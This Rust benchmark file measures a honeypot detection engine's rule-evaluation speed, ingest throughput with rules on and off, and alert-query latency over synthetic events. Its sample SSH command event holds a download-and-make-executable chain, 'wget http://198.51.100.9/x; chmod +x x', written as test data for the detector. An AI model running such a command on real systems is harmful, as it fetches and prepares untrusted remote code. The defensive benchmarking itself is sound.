//! The rules stage's numbers (issue "Alerts"):
//!
//! - `MODE=eval` (default): events per second through the engine on one
//!   thread, with the built-in pack plus `EXTRA` (default 100) further
//!   detection rules, over a honeypot-like mix of events.
//! - `MODE=ingest`: events per second through the writer with the rules stage
//!   on against off, alternately in one run (A/B), until the stage has read
//!   everything; failed logins from 250 sources, so the brute-force
//!   correlation fires on most events (a worst case for alert writes).
//! - `MODE=queue`: the alert queue's latency (p50, p95 of each query) with
//!   `ALERTS` alerts (default 1,000,000) and `EVENTS` events stored.
//!
//! Run: `cargo bench -p nectar-rules --bench rules` (env MODE, EVENTS, EXTRA,
//! ALERTS).

use std::sync::Arc;
use std::time::{Duration, Instant};

/// The allocator of the `nectar` binary, so the figures are the server's.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

use nectar_bus::stream::{ConsumerConfig, spawn_consumer};
use nectar_event::{Event, Kind, Severity, Timestamp};
use nectar_rules::{EngineLimits, RuleEngine, RuleSet, RulesStage, RulesStats, SigmaEngine};
use nectar_store::{AlertFilter, Store, StoreConfig, WriterConfig, WriterHandle};
use serde_json::json;

fn env(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// `n` further detection rules of the shapes analysts write: field values,
/// substrings, keywords, CIDR, over the kinds honeypots produce.
fn extra_rules(n: usize) -> String {
    let mut out = String::new();
    for i in 0..n {
        let detection = match i % 5 {
            0 => format!("  sel:\n    kind: ssh.command\n    input|contains: 'payload{i}'\n"),
            1 => format!("  sel:\n    kind: http.request\n    path|startswith: '/admin{i}/'\n"),
            2 => format!("  sel:\n    username: 'user{i}'\n    password|endswith: 'x{i}'\n"),
            3 => format!("  sel:\n    - 'needle-{i}-in-any-string'\n"),
            _ => format!(
                "  sel:\n    src_ip|cidr: '10.{}.{}.0/24'\n    kind: session.connect\n",
                i % 250,
                i / 250
            ),
        };
        out.push_str(&format!(
            "---\ntitle: extra {i}\nid: extra-{i}\nlogsource: {{product: nectar}}\ndetection:\n{detection}  condition: sel\nlevel: low\ntags: [attack.t1110]\n"
        ));
    }
    out
}

/// A honeypot-like mix: failed logins (60 %), connections, commands with
/// process records, HTTP requests.
fn mixed_events(n: usize) -> Vec<Event> {
    let base = 1_800_000_000_000_000i64;
    (0..n)
        .map(|i| {
            let src = std::net::IpAddr::from([203, 0, 113, (i % 250) as u8]);
            let mut e = match i % 10 {
                0..=5 => Event::new("bench", Kind::SshLoginFailed, Severity::Low, "failed")
                    .with("username", ["root", "admin", "pi"][i % 3])
                    .with("password", format!("word{}", i % 5_000)),
                6 => Event::new("bench", Kind::SessionConnect, Severity::Info, "connect"),
                7 => Event::new("bench", Kind::SshCommand, Severity::Medium, "cmd")
                    .with("username", "root")
                    .with("input", "cd /tmp; wget http://198.51.100.9/x; chmod +x x")
                    .with(
                        "processes",
                        json!([
                            {"image": "/bin/bash", "command_line": "cd /tmp", "parent_image": "/bin/bash"},
                            {"image": "/usr/bin/wget", "command_line": "wget http://198.51.100.9/x", "parent_image": "/bin/bash"},
                            {"image": "/usr/bin/chmod", "command_line": "chmod +x x", "parent_image": "/bin/bash"}
                        ]),
                    ),
                _ => Event::new("bench", Kind::HttpRequest, Severity::Info, "GET /")
                    .with("method", "GET")
                    .with("path", format!("/wp-login.php/{}", i % 97))
                    .with("query", "a=1")
                    .with("user_agent", "Mozilla/5.0")
                    .with("status", 200)
                    .with("classes", json!([]))
                    .with("headers", json!([["Host", "www.example.org"]])),
            };
            e.src_ip = Some(src);
            e.time = Timestamp::from_micros(base + i as i64 * 1_000).unwrap();
            e
        })
        .collect()
}

fn eval() {
    let events = env("EVENTS", 200_000);
    let extra = env("EXTRA", 100);
    let mut set = RuleSet::load(&[], &[], true);
    if extra > 0 {
        set.add_text("extra.yml", &extra_rules(extra), &Default::default());
    }
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let mut all = mixed_events(events);
    let what = match std::env::var("MIX").as_deref() {
        // Only the events no correlation counts (connections, commands, HTTP).
        Ok("uncorrelated") => {
            all.retain(|e| e.kind != Kind::SshLoginFailed);
            "connections, commands and HTTP requests"
        }
        // Only failed logins from 250 sources: every correlation fires on each.
        Ok("logins") => {
            all.retain(|e| e.kind == Kind::SshLoginFailed);
            "failed logins from 250 sources"
        }
        _ => "60 % failed logins, connections, commands, HTTP requests",
    };
    let events = all.len();
    let mut rates = Vec::new();
    for _ in 0..5 {
        let (mut engine, errors) = SigmaEngine::new(&set, EngineLimits::default());
        assert!(errors.is_empty(), "{errors:?}");
        let mut out = Vec::new();
        let mut matches = 0usize;
        let start = Instant::now();
        for e in &all {
            engine.process(e, &mut out);
            matches += out.len();
            out.clear();
        }
        rates.push(events as f64 / start.elapsed().as_secs_f64());
        eprintln!(
            "  run: {:.0} events/s, {matches} matches",
            rates.last().unwrap()
        );
    }
    rates.sort_by(f64::total_cmp);
    println!(
        "eval: {} rules ({} built-in + {extra}), {events} events ({what}): median {:.0} events/s on one thread",
        set.infos.len(),
        set.infos.len() - extra,
        rates[2]
    );
}

fn failed_logins(n: usize) -> Vec<Event> {
    let base = Timestamp::now().as_micros();
    (0..n)
        .map(|i| {
            let mut e = Event::new("bench", Kind::SshLoginFailed, Severity::Low, "failed")
                .with("username", ["root", "admin", "pi", "ubuntu"][i % 4])
                .with("password", format!("word{}", i % 5_000));
            e.src_ip = Some(std::net::IpAddr::from([203, 0, 113, (i % 250) as u8]));
            e.time = Timestamp::from_micros(base + i as i64).unwrap();
            e
        })
        .collect()
}

async fn ingest_once(events: usize, rules: bool) -> (f64, u64) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&StoreConfig::new(dir.path().join("nectar.db")))
        .await
        .unwrap();
    let (writer, task) = WriterHandle::spawn(store.clone(), WriterConfig::default());
    let stage = rules.then(|| {
        let set = RuleSet::load(&[], &[], true);
        let (engine, _) = SigmaEngine::new(&set, EngineLimits::default());
        spawn_consumer(
            RulesStage::new(
                Box::new(engine),
                store.clone(),
                Arc::new(RulesStats::default()),
            ),
            store.clone(),
            writer.fanout(),
            ConsumerConfig {
                save_every: Duration::from_secs(2),
                catch_up_chunk: env("CHUNK", 5_000),
                ..ConsumerConfig::default()
            },
        )
        .unwrap()
    });
    let all = failed_logins(events);
    let start = Instant::now();
    let mut producers = Vec::new();
    let chunks: Vec<Vec<Event>> = all.chunks(1_000).map(<[Event]>::to_vec).collect();
    let mut queues: Vec<Vec<Vec<Event>>> = vec![Vec::new(); 4];
    for (i, c) in chunks.into_iter().enumerate() {
        queues[i % 4].push(c);
    }
    for queue in queues {
        let writer = writer.clone();
        producers.push(tokio::spawn(async move {
            for b in queue {
                writer.submit(b).await.unwrap();
            }
        }));
    }
    for p in producers {
        p.await.unwrap();
    }
    let stored = start.elapsed().as_secs_f64();
    if let Some(stage) = &stage {
        while stage.status().offset < events as u64 {
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    }
    let elapsed = start.elapsed().as_secs_f64();
    eprintln!(
        "    stored in {stored:.2} s ({:.0} events/s), everything read by the stage after {elapsed:.2} s",
        events as f64 / stored
    );
    drop(writer);
    task.await.unwrap();
    let mut alerts = 0;
    if let Some(stage) = stage {
        stage.stop(Duration::from_secs(60)).await;
        alerts = store
            .count_alerts(&AlertFilter::default(), 1_000_000)
            .await
            .unwrap();
    }
    store.close().await;
    (events as f64 / elapsed, alerts)
}

fn ingest() {
    let events = env("EVENTS", 200_000);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (mut off, mut on) = (Vec::new(), Vec::new());
    for _ in 0..5 {
        off.push(runtime.block_on(ingest_once(events, false)).0);
        let (rate, alerts) = runtime.block_on(ingest_once(events, true));
        on.push(rate);
        eprintln!(
            "  run: off {:.0}, on {rate:.0} events/s ({alerts} alerts)",
            off.last().unwrap()
        );
    }
    off.sort_by(f64::total_cmp);
    on.sort_by(f64::total_cmp);
    println!(
        "ingest A/B, {events} failed logins from 250 sources: rules off {:.0} events/s, rules on {:.0} events/s (until the stage has read everything): {:.1} %",
        off[2],
        on[2],
        on[2] / off[2] * 100.0
    );
}

fn queue() {
    let alerts = env("ALERTS", 1_000_000);
    let events = env("EVENTS", 1_000_000);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let dir = std::env::var_os("DB_DIR")
            .map(std::path::PathBuf::from)
            .unwrap_or_else(|| std::env::temp_dir().join("nectar-queue-bench"));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("nectar.db");
        let fresh = !path.exists();
        let store = Store::open(&StoreConfig::new(&path)).await.unwrap();
        if fresh {
            let start = Instant::now();
            let (writer, task) = WriterHandle::spawn(store.clone(), WriterConfig::default());
            let all = failed_logins(events);
            for chunk in all.chunks(5_000) {
                writer.submit(chunk.to_vec()).await.unwrap();
            }
            drop(writer);
            task.await.unwrap();
            eprintln!("  {events} events stored in {:.0} s", start.elapsed().as_secs_f64());
            let start = Instant::now();
            store
                .bench_fill_alerts(alerts, 250_000)
                .await
                .unwrap();
            eprintln!("  {alerts} alerts stored in {:.0} s", start.elapsed().as_secs_f64());
        }
        let queries: Vec<(&str, AlertFilter)> = vec![
            ("all, newest first", AlertFilter::default()),
            (
                "status=new",
                AlertFilter {
                    status: Some(nectar_event::AlertStatus::New),
                    ..AlertFilter::default()
                },
            ),
            (
                "rule",
                AlertFilter {
                    rule: Some("bench-rule-7".into()),
                    ..AlertFilter::default()
                },
            ),
            (
                "src_ip",
                AlertFilter {
                    src_ip: Some("10.0.1.7".into()),
                    ..AlertFilter::default()
                },
            ),
            (
                "unassigned & open",
                AlertFilter {
                    assignee: Some(None),
                    open: true,
                    ..AlertFilter::default()
                },
            ),
            (
                "severity>=high",
                AlertFilter {
                    min_severity: Some(Severity::High),
                    ..AlertFilter::default()
                },
            ),
        ];
        for (name, filter) in queries {
            let mut times = Vec::new();
            for _ in 0..50 {
                let start = Instant::now();
                let (page, next) = store.alerts(&filter, 50, None).await.unwrap();
                let _ = store.count_alerts(&filter, 10_000).await.unwrap();
                if let Some(next) = next {
                    let _ = store.alerts(&filter, 50, Some(next)).await.unwrap();
                }
                std::hint::black_box(page);
                times.push(start.elapsed().as_secs_f64() * 1_000.0);
            }
            times.sort_by(f64::total_cmp);
            println!(
                "queue ({alerts} alerts, {events} events) {name}: page + count + next page p50 {:.1} ms, p95 {:.1} ms",
                times[25], times[47]
            );
        }
        store.close().await;
    });
}

fn main() {
    match std::env::var("MODE").as_deref() {
        Ok("ingest") => ingest(),
        Ok("queue") => queue(),
        _ => eval(),
    }
}
